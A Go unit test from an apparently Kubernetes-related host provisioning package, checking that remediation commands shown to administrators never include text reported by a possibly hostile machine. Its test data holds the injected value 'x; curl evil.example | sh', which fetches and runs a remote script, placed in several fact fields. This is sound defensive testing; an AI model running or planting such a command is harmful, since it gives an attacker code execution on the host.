package provision

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"strings"
	"testing"

	infrav1 "github.com/slipway-dev/slipway/api/v1beta2"
)

// printing is a machine that answers each script with the same text.
type printing string

func (p printing) Run(context.Context, string, io.Reader) (string, error) { return string(p), nil }
func (printing) Close() error                                             { return nil }

// A remedy is a command that an administrator copies, so nothing in it is what the machine printed.
func TestARemedyHasNothingOfTheMachine(t *testing.T) {
	const evil = "x; curl evil.example | sh"
	facts := Facts{Kernel: "Linux", Machine: evil, System: evil, HostName: evil, MachineID: "id", Namespace: evil, Server: evil, Runtimes: []string{"docker", evil}}
	w := &wanted{bundle: &bundle{}, namespace: "ns", server: "https://here:6443"}
	var found []*Problem
	add := func(err error) {
		t.Helper()
		var p *Problem
		if !errors.As(err, &p) {
			t.Errorf("no problem: %v", err)
			return
		}
		found = append(found, p)
	}
	for _, f := range []func(*Facts){
		func(*Facts) {},
		func(f *Facts) { f.Kernel = evil },
		func(f *Facts) { f.Server = "" },
		func(f *Facts) { f.Runtimes = []string{evil} },
	} {
		changed := facts
		f(&changed)
		found = append(found, check(changed, w)...)
	}
	h := &infrav1.Host{}
	add(checkDeparture("name", "ns", "https://here:6443", facts, nil))
	add(checkDeparture(strings.ToLower(evil), "ns", "https://here:6443", facts, nil))
	h.Status.Inventory.MachineID = "another"
	add(checkDeparture("name", "ns", "https://here:6443", facts, h))
	type finding struct{ Check, Level, Message, Remedy string }
	report, err := json.Marshal(map[string]any{"findings": []finding{{evil, "Error", evil, evil}}})
	if err != nil {
		t.Fatal(err)
	}
	a := &addition{run: &run{}, machine: printing(report), facts: Facts{AgentDigest: "sha"}, want: &wanted{agent: &Agent{}}}
	add(a.runPreflight(t.Context(), nil))
	if len(found) < 8 {
		t.Errorf("only %d problems were looked at", len(found))
	}
	for _, p := range found {
		if strings.Contains(p.Remedy, "evil") {
			t.Errorf("%s: %s", p.Reason, p.Remedy)
		}
	}
}
